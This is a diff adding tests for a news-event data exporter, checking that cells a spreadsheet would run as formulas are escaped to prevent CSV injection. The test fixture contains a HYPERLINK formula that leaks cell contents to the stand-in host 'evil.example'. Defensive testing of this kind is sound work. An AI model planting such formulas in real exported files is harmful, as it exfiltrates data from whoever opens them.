@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 
 from dotterel.dedup import LinkedEvent, link_mentions
 from dotterel.export import FORMATS, ExportError, write_export
+from dotterel.export._common import escape_formula
 from dotterel.export.acled import ACLED_COLUMNS, AcledRow
 from dotterel.export.cameo import PHOENIX_COLUMNS, cameo_actor_code
 from dotterel.export.plover import plover_schema
@@ -318,9 +319,35 @@ def test_acled_and_phoenix_cells_survive_any_outlet_name(outlets):
     [ev] = link_mentions(refs)
     text, report = export_text("acled", [ev])
     [row] = list(csv.DictReader(io.StringIO(text, newline="")))
-    assert row["source"] == "; ".join(sorted(outlets)) and report.rows_written == 1
+    # A name a spreadsheet would run as a formula ("=...", "@...") comes with a ' before it.
+    assert row["source"] == escape_formula("; ".join(sorted(outlets))) and report.rows_written == 1
     tsv, _ = export_text("cameo", [ev])
     header, line = tsv.split("\n")[:2]
     cells = dict(zip(header.split("\t"), line.split("\t")))
     assert len(line.split("\t")) == len(PHOENIX_COLUMNS)
-    assert cells["NewsSources"] == " ".join(";".join(sorted(outlets)).split())
+    assert cells["NewsSources"] == escape_formula(" ".join(";".join(sorted(outlets)).split()))
+
+
+# -- spreadsheet formulas (issue 14: OWASP "CSV Injection") ------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+@pytest.mark.parametrize("fmt", ["acled", "csv", "cameo"])
+def test_cells_a_spreadsheet_would_run_are_escaped_unless_raw(fmt):
+    [ev] = link_mentions([mention("o1", source=FORMULA), mention("o2", source="@SUM(1+1)")])
+    text, _ = export_text(fmt, [ev])
+    delimiter = "\t" if fmt == "cameo" else ","
+    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
+    leading = [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]
+    assert leading == []
+    assert any(c.startswith("'") and "HYPERLINK" in c or c.startswith("'@SUM") for c in cells)
+    raw = io.StringIO()
+    write_export([ev], fmt, raw, raw=True, **({"timestamp": 0} if fmt == "acled" else {}))
+    raw_cells = [cell for row in csv.reader(io.StringIO(raw.getvalue(), newline=""), delimiter=delimiter) for cell in row]
+    assert any(c.startswith(("=", "@")) for c in raw_cells)
+
+
+def test_negative_numbers_are_not_escaped():
+    assert escape_formula("-43.25") == "-43.25" and escape_formula("+3") == "+3" and escape_formula("-1e5") == "-1e5"
+    assert escape_formula("-dash") == "'-dash" and escape_formula("\tx") == "'\tx" and escape_formula("a=b") == "a=b"
